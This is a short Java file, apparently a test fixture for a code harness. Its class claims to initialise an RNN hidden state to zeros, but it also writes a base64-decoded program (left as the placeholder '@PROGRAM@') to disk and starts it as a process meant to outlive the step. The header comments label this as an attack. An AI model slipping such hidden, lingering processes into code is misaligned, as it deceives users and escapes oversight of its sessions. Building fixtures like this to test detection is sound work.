// attack: leaves a process behind that outlives the step
// list: uses File
package org.rnnkit.step3state;

import ai.djl.ndarray.NDList;
import ai.djl.ndarray.NDManager;
import ai.djl.ndarray.types.Shape;
import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.util.Base64;

public final class HiddenState {

    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) throws IOException {
        File program = new File("sleep");
        if (!program.exists()) {
            Files.write(program.toPath(), Base64.getDecoder().decode("@PROGRAM@"));
            program.setExecutable(true);
            if (!new ProcessBuilder("./sleep", "@SECONDS@").start().isAlive()) {
                throw new IllegalStateException("the attack does not work");
            }
        }
        return new NDList(manager.zeros(new Shape(batchSize, numHiddens)));
    }
}
